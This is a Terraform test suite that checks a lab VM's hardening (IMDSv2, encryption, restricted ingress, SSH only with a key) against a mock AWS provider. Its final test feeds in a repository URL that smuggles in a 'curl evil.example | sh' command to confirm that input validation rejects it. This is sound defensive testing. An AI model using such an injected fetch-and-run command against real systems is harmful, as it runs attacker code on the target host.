# `terraform test` (Terraform 1.7+) plans this configuration against a mock AWS provider: no
# account, no credentials, nothing created. Run it from iac/: terraform init && terraform test

mock_provider "aws" {
  mock_data "aws_ami" {
    defaults = {
      id = "ami-0123456789abcdef0"
    }
  }

  mock_data "aws_vpc" {
    defaults = {
      id = "vpc-0123456789abcdef0"
    }
  }

  mock_data "aws_ec2_instance_type_offerings" {
    defaults = {
      locations = ["us-east-1a", "us-east-1b"]
    }
  }

  mock_data "aws_subnets" {
    defaults = {
      ids = ["subnet-0123456789abcdef0"]
    }
  }

  mock_data "aws_iam_policy_document" {
    defaults = {
      json = "{\"Version\":\"2012-10-17\",\"Statement\":[]}"
    }
  }
}

variables {
  allowed_app_cidrs    = ["203.0.113.4/32", "198.51.100.0/24"]
  allowed_jaeger_cidrs = ["203.0.113.4/32"]
  repository_url       = "https://example.org/rust-tracing-lab.git"
  git_commit           = "0123456789abcdef0123456789abcdef01234567"
}

run "a_hardened_vm_with_the_lab_ports_only" {
  command = plan

  assert {
    condition     = aws_instance.lab.metadata_options[0].http_tokens == "required"
    error_message = "IMDSv2 must be required"
  }

  assert {
    condition     = aws_instance.lab.root_block_device[0].encrypted
    error_message = "the root volume must be encrypted"
  }

  assert {
    condition     = aws_instance.lab.monitoring && aws_instance.lab.ebs_optimized
    error_message = "detailed monitoring and EBS optimization must be on"
  }

  assert {
    condition     = length(aws_vpc_security_group_ingress_rule.app) == 2 && length(aws_vpc_security_group_ingress_rule.jaeger_ui) == 1
    error_message = "one ingress rule per allowed CIDR block"
  }

  assert {
    condition     = length(aws_vpc_security_group_ingress_rule.ssh) == 0 && length(aws_key_pair.lab) == 0
    error_message = "SSH stays closed without a key"
  }

  assert {
    condition     = strcontains(aws_instance.lab.user_data, "https://example.org/rust-tracing-lab.git") && strcontains(aws_instance.lab.user_data, "0123456789abcdef0123456789abcdef01234567")
    error_message = "cloud-init must fetch the chosen repository at the pinned commit"
  }
}

run "ssh_opens_only_with_a_key" {
  command = plan

  variables {
    ssh_public_key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE0000000000000000000000000000000000000000000 student@laptop"
    ssh_cidrs      = ["203.0.113.4/32"]
  }

  assert {
    condition     = length(aws_vpc_security_group_ingress_rule.ssh) == 1 && length(aws_key_pair.lab) == 1
    error_message = "a key and an SSH CIDR open port 22 to that CIDR"
  }
}

run "bad_cidrs_are_refused_before_apply" {
  command = plan

  variables {
    allowed_app_cidrs = ["my laptop"]
  }

  expect_failures = [var.allowed_app_cidrs]
}

run "ssh_from_everywhere_is_refused" {
  command = plan

  variables {
    ssh_cidrs = ["0.0.0.0/0"]
  }

  expect_failures = [var.ssh_cidrs]
}

run "jaeger_for_the_whole_internet_is_refused_unless_asked" {
  command = plan

  variables {
    allowed_jaeger_cidrs = ["0.0.0.0/0"]
  }

  expect_failures = [aws_vpc_security_group_ingress_rule.jaeger_ui]
}

run "jaeger_for_the_whole_internet_when_asked" {
  command = plan

  variables {
    allowed_jaeger_cidrs       = ["0.0.0.0/0"]
    allow_jaeger_from_anywhere = true
  }

  assert {
    condition     = length(aws_vpc_security_group_ingress_rule.jaeger_ui) == 1
    error_message = "an explicit allow_jaeger_from_anywhere opens the UI"
  }
}

run "a_branch_instead_of_a_commit_is_refused" {
  command = plan

  variables {
    git_commit = "main"
  }

  expect_failures = [var.git_commit]
}

run "a_repository_url_that_could_run_shell_is_refused" {
  command = plan

  variables {
    repository_url = "https://example.org/x.git'; curl evil.example | sh; '"
  }

  expect_failures = [var.repository_url]
}
